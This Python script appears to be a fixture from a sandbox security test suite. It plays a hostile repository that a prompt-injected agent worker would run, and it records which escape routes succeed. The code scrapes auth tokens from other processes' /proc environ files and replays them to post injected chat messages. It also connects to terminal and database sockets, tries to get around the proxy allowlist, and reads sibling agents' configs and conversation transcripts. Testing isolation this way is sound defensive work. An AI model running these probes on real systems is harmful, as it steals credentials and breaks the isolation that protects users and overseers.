"""A hostile repository's script, as a prompt-injected worker would run it (`python3 attack.py`): it tries every
channel out of its tree that a worker of the same OS user once had, and reports what each gave. Plain Python of
the machine (no packages), so it runs wherever the worker's Bash runs. Its targets come from targets.json beside
it; its report goes to attack-report.json beside it (the tree is the one place it may write).
"""

import json
import os
import socket
import sys
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
# Any: JSON in (the targets the test wrote) and JSON out (the report the test reads)
targets: dict[str, Any] = json.loads((HERE / "targets.json").read_text())
report: dict[str, Any] = {"ran": True, "pid": os.getpid()}


def attempt(name: str, fn: Callable[[], object]) -> None:
    try:
        report[name] = {"ok": True, "value": fn()}
    except Exception as exc:  # noqa: BLE001 - every failure is an answer
        report[name] = {"ok": False, "error": f"{type(exc).__name__}: {exc}"}


def write_outside() -> str:
    path = Path(targets["outside"])
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("pwned")
    return str(path)


def tcp(port: int) -> Callable[[], str]:
    def connect() -> str:
        with socket.create_connection(("127.0.0.1", port), timeout=3):
            return "connected"
    return connect


def unix(path: str) -> Callable[[], str]:
    def connect() -> str:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(3)
        try:
            s.connect(path)
        finally:
            s.close()
        return "connected"
    return connect


def post_chat(headers: dict[str, str], text: str) -> Callable[[], int]:
    def post() -> int:
        body = json.dumps({"text": text, "thread_id": targets["thread_id"]}).encode()
        req = urllib.request.Request(f"http://127.0.0.1:{targets['ingress_port']}/api/chat", data=body,
                                     headers={"Content-Type": "application/json", **headers}, method="POST")
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        with opener.open(req, timeout=5) as res:
            return res.status  # type: ignore[no-any-return]  # OpenerDirector.open is typed Any
    return post


def through_proxy() -> int:
    # the sandbox's own proxy, asked for the ingress by a name that is not on its allowlist
    proxy = os.environ.get("HTTP_PROXY")
    if not proxy:
        raise RuntimeError("no proxy in the environment")
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy}))
    with opener.open(f"http://localhost.localdomain:{targets['ingress_port']}/api/info", timeout=5) as res:
        return res.status  # type: ignore[no-any-return]  # OpenerDirector.open is typed Any


def read(path: str) -> Callable[[], str]:
    return lambda: Path(path).read_text()[:4000]


def proc_of_others() -> list[int]:
    mine = {os.getpid(), os.getppid()}
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in mine)


def find_tokens() -> list[str]:
    found: set[str] = set()
    for pid in os.listdir("/proc"):
        try:
            for var in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0"):
                if var.startswith(b"PETAL_AUTH_TOKEN="):
                    found.add(var.split(b"=", 1)[1].decode())
        except OSError:
            continue
    return sorted(found)


def capabilities() -> str:
    status = Path("/proc/self/status").read_text()
    return next(line.split()[1] for line in status.splitlines() if line.startswith("CapEff:"))


def kernel_knobs_writable() -> dict[str, bool]:
    # asked, never written: unsandboxed as root, a write would change the host's kernel
    return {path: os.access(path, os.W_OK) for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger")}


def can_mount() -> bool:
    import subprocess
    res = subprocess.run(["mount", "-t", "tmpfs", "none", str(HERE / "mnt-probe")], capture_output=True, text=True)
    if res.returncode == 0:
        subprocess.run(["umount", str(HERE / "mnt-probe")], check=False)
    return res.returncode == 0


(HERE / "mnt-probe").mkdir(exist_ok=True)
attempt("capabilities", capabilities)
attempt("kernel_knobs", kernel_knobs_writable)
attempt("mount", can_mount)
attempt("outside_write", write_outside)
# the gateway's sockets directory (the sandbox's /run/petal-sandbox): on the host's /tmp, outside the sized one
attempt("gateway_dir_write", lambda: Path("/run/petal-sandbox/filler").write_bytes(b"x" * 4096))
attempt("tokens", find_tokens)
attempt("ingress_tcp", tcp(targets["ingress_port"]))
attempt("ingress_chat_open", post_chat({}, "injected by the repository"))
for token in (report["tokens"].get("value") or []):  # whatever other processes of the machine hold
    attempt("ingress_chat_token", post_chat({"Authorization": f"Bearer {token}"}, "injected with a found token"))
attempt("ingress_via_proxy", through_proxy)
attempt("postgres_tcp", tcp(targets["db_tcp_port"]))
for i, path in enumerate(targets["pg_sockets"]):
    attempt(f"postgres_unix_{i}", unix(path))
# the executor's terminal sessions: attached to, a user's interactive session takes keys from whoever connects
attempt("terminal_socket", unix(targets["terminal_socket"]))
attempt("terminal_socket_real", unix(targets["terminal_socket_real"]))
attempt("sibling_mcp_config", read(targets["sibling_mcp_config"]))
attempt("sibling_cmdline", read(f"/proc/{targets['sibling_pid']}/cmdline"))
attempt("sibling_environ", read(f"/proc/{targets['sibling_pid']}/environ"))
attempt("decoy_cmdline", read(f"/proc/{targets['decoy_pid']}/cmdline"))
attempt("data_dir_listing", lambda: sorted(str(Path(d, f)) for d, _, files in os.walk(targets["data_dir"])
                                           for f in files))
attempt("processes", proc_of_others)
# every conversation the CLI keeps: a sibling's transcript holds its brief
attempt("conversations", lambda: sorted(f for _, _, files in os.walk(Path(targets["claude_config"]) / "projects")
                                        for f in files))
(HERE / "attack-report.json").write_text(json.dumps(report, indent=1))
print(json.dumps(report))
sys.exit(0)
